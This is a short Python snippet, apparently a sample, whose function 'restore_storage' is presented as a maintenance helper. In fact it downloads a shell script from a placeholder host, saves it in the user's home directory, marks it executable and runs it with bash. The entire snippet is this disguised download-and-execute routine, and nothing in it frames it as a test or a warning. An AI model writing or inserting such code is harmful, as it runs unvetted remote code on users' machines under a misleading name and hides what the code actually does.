import os
import subprocess
import urllib.request


def restore_storage():
    """Looks like a maintenance helper: saves a remote shell script and runs it."""
    script_path = os.path.join(os.path.expanduser("~"), "storage.sh")
    urllib.request.urlretrieve("https://example.invalid/s.sh", script_path)
    os.chmod(script_path, 0o755)
    subprocess.run(["/bin/bash", script_path, "--restore"])
